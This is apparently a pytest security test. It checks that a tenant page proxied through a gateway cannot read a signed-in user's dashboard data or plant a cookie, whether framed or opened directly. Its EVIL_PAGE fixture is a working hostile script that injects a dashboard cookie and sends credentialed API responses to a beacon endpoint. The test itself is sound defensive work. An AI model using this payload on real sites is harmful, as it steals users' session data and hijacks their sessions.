"""A tenant's page behind a VNG exposed URL, opened in real Chromium by a person signed in to
the dashboard: its script would read the dashboard's JSON and plant a cookie if it ran as the
gateway's page. It must do neither, whether opened in a frame or navigated to; the same page
opened from the tenant's own server runs (the control that shows the script works)."""

from __future__ import annotations

import time
from contextlib import closing
from http.server import BaseHTTPRequestHandler
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.browser.test_dashboard import DevToolsPage
from tests.cluster.test_security_outbound import open_session
from tests.cluster.test_vng_api import vng_token
from tests.support.credentials import create_credential
from tests.support.loopback import LoopbackServer

pytestmark = [pytest.mark.browser, pytest.mark.cluster, pytest.mark.timeout(600)]

EVIL_PAGE = """<!doctype html><html><body>tenant page<script>
const beacon = (what) => fetch('{target}/leak?' + new URLSearchParams({{what, where: location.origin}}),
                                {{mode: 'no-cors'}});
document.cookie = 'assay_dashboard=planted; path=/dashboard';
fetch('/dashboard/api/overview', {{credentials: 'include'}})
  .then(r => r.text()).then(t => beacon('read:' + t.slice(0, 200))).catch(e => beacon('error:' + e));
</script></body></html>"""


class TenantServer(LoopbackServer):
    """The tenant's own server: the page at /page, and /leak recording every beacon."""

    def __init__(self):
        self.leaks: list[dict] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                parts = urlsplit(self.path)
                if parts.path == "/leak":
                    server.leaks.append({k: v[0] for k, v in parse_qs(parts.query).items()})
                    body, kind = b"", "text/plain"
                else:
                    body, kind = EVIL_PAGE.format(target=server.url).encode(), "text/html"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        super().__init__(Handler)


def wait_for_leaks(server: TenantServer, seconds: float) -> list[dict]:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not server.leaks:
        time.sleep(0.2)
    return list(server.leaks)


def test_a_tenant_page_cannot_read_the_dashboard_or_plant_its_cookie(
    cluster, namespace, gateway, two_tenants_operator, browser
):
    with TenantServer() as tenant, closing(DevToolsPage(browser)) as page:
        client_id, secret = create_credential(cluster, namespace, "viewer", scopes=("LOADTEST_LIST",))
        exposed = open_session(cluster, gateway, namespace, vng_token(cluster, gateway, namespace), tenant.url)

        page.navigate(gateway.url + "/dashboard")
        for _ in range(60):  # until the gateway's index knows the new credential
            page.submit_login(client_id, secret)
            if page.evaluate("location.pathname") == "/dashboard":
                break
            time.sleep(0.5)
        assert page.evaluate("location.pathname") == "/dashboard"
        overview = "(async () => (await fetch('/dashboard/api/overview')).status)()"
        assert page.evaluate(overview, await_promise=True) == 200

        # The control: served by the tenant's own origin, the script runs and reports.
        page.navigate(tenant.url + "/page")
        control = wait_for_leaks(tenant, 10)
        assert control and control[0]["where"] == tenant.url, control
        tenant.leaks.clear()

        # In a frame of the dashboard, and as the top-level page: nothing runs.
        page.navigate(gateway.url + "/dashboard")
        page.evaluate(f"""(() => {{ const f = document.createElement('iframe');
                                  f.src = {exposed + "page"!r}; document.body.appendChild(f); }})()""")
        page.call("Page.navigate", url=exposed + "page")
        assert wait_for_leaks(tenant, 6) == []

        # The session is intact: no cookie was planted over it.
        page.navigate(gateway.url + "/dashboard")
        assert page.evaluate("location.pathname") == "/dashboard"
        assert page.evaluate(overview, await_promise=True) == 200
